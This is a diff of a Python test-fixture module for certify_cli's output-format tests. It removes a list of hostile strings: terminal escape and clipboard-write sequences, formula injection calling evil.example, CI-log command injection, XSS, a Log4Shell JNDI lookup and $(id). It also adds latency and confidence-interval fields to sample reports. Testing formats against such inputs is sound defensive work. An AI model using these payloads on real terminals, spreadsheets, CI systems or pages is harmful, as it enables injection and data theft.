@@ -1,4 +1,4 @@
-"""A report and a list that hold everything a format must cope with, and texts that attack every place of showing.
+"""A report and a list that hold everything a format must cope with.
 
 For the tests of formats, ours and those of plug-ins; nothing else imports it.
 """
@@ -12,10 +12,10 @@ from decimal import Decimal
 
 from certify_cli.types.costs import Cost
 from certify_cli.types.findings import Badge, Mark, Status
+from certify_cli.types.measures import Interval, Percentiles
 from certify_cli.types.reports import (
     Column,
     Decision,
-    Percentiles,
     ProbeReport,
     RatingParts,
     Reason,
@@ -26,52 +26,6 @@ from certify_cli.types.reports import (
     Tokens,
 )
 
-HOSTILE = (
-    "\x1b[2J\x1b[31mred",
-    "\x1b]52;c;ZWNobyBoaQ==\x07 writes the clipboard",
-    "\x1b]8;;https://evil.example\x1b\\a link\x1b]8;;\x1b\\",
-    "\x9b31m and \x9d8;;https://evil.example\x9c",
-    "abc\u202edcba\u2066\u2069 \u200e\u200f\u061c",
-    "zero\u200bwidth\ufeffjoin\u200d\u2060er\u00ad",
-    "tags \U000e0041\U000e0042 private \ue000\U000f0000 filler \u3164\u2800",
-    "a\rb\x08\x08\x00\x7f\x85c\u2028d\u2029e\x0bf\x0cg",
-    "lone \ud800 and \udfff surrogates",
-    "not XML: \x01 \x1f \ufffe \uffff ]]> &amp; <a b='c'>",
-    '=HYPERLINK("https://evil.example";"x")',
-    " \t=1+1",
-    "\u00a0=1+1",
-    "\uff1d1+1",
-    "+1",
-    "-1",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    "\n=1",
-    "harmless\n=1+1\r\n@x",
-    "cell;=1+1;\u00a0-2",
-    "\u200b=1",
-    "::error file=a.py,line=1::pwned",
-    "  ::add-mask::secret",
-    "\u3000::stop-commands::x",
-    "fine\n::set-output name=a::b\n   ::debug::x",
-    "##vso[task.setvariable variable=a]b and ##[command]x and ##teamcity[buildStop] and ##VSO[x]",
-    "section_start:1700000000:x\r\x1b[0Kheader section_end:1700000000:x",
-    "<script>alert(1)</script><img src=x onerror=alert(1)>",
-    "![pixel](https://evil.example/x.png) [click](javascript:alert(1)) <https://evil.example>",
-    "@everyone see #1, GH-2, www.evil.example and mallory@evil.example",
-    "| a | b \\| c \\\\| d |\n|---|---|",
-    "# heading\n- list\n> quote\n---",
-    "`code` ``` fence ```` longer ~~~\n```\nout\n```",
-    "ends in a backslash \\",
-    "[bold]x[/] [link=https://evil.example]y[/link] [/] :bomb:",
-    "{{7*7}} ${jndi:ldap://evil.example} %0aX $(id)",
-    "x" * 1_000_000,
-    "\u4e2d\u6587 \u65e5\u672c \U0001f600 e\u0301 na\u00efve",
-    "",
-    " ",
-)
-"""One attack, or one awkward but honest text, an entry."""
-
 _STARTED = datetime(2026, 11, 22, 9, 30, tzinfo=UTC)
 _CERTIFIED = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
 _RUN = "0b9f6a52-6d6e-4b0c-9a53-5a3f0c1d2e4f"
@@ -79,7 +33,17 @@ _RUN = "0b9f6a52-6d6e-4b0c-9a53-5a3f0c1d2e4f"
 
 _PROBES = (
     ProbeReport(id="reachable", mark=Mark.PASS, required=True, trials=1, passed=1, duration_ms=812.4),
-    ProbeReport(id="answers", mark=Mark.PASS, required=True, flaky=True, trials=3, passed=2, duration_ms=2411.0),
+    ProbeReport(
+        id="answers",
+        mark=Mark.PASS,
+        required=True,
+        flaky=True,
+        trials=3,
+        passed=2,
+        duration_ms=2411.0,
+        failed=1,
+        interval=Interval(low=0.2077, high=0.9385, confidence=0.95),
+    ),
     ProbeReport(
         id="tool_use",
         mark=Mark.FAIL,
@@ -87,6 +51,8 @@ _PROBES = (
         message="no toolUse block came",
         remedy="remove the claim from the registry",
         trials=3,
+        failed=3,
+        interval=Interval(low=0.0, high=0.5615, confidence=0.95),
         duration_ms=3000.0,
         request_ids=("6d0f2c1e-0001", "6d0f2c1e-0002"),
     ),
@@ -122,10 +88,14 @@ _WARNED = replace(
     served="anthropic.claude-sonnet-4-5-20250929-v1:0",
     rating_parts=RatingParts(success=0.83, resilience=1.0, performance=0.4, stability=0.75),
     certified_at=_STARTED,
-    latency_ms=Percentiles(p50=812.4, p90=2411.0, samples=12),
-    ttft_ms=Percentiles(p50=120.25, samples=3),
+    latency_ms=Percentiles(p50=812.4, p90=2411.0, mean=901.2, samples=12, weak=("p90",)),
+    ttft_ms=Percentiles(p50=120.3, mean=133.7, samples=3, weak=("p50",)),
+    gap_ms=Percentiles(p50=20.1, p90=33.0, p95=41.5, mean=22.5, samples=60, weak=("p95",)),
+    longest_gap_ms=310.2,
+    output_tokens_per_second=Percentiles(mean=44.4, samples=1),
     calls=14,
     retries=2,
+    retry_ms=3120.5,
     tokens=Tokens(input=1200, output=345),
     cost_usd=Decimal("0.0000001"),
     coverage=0.92,
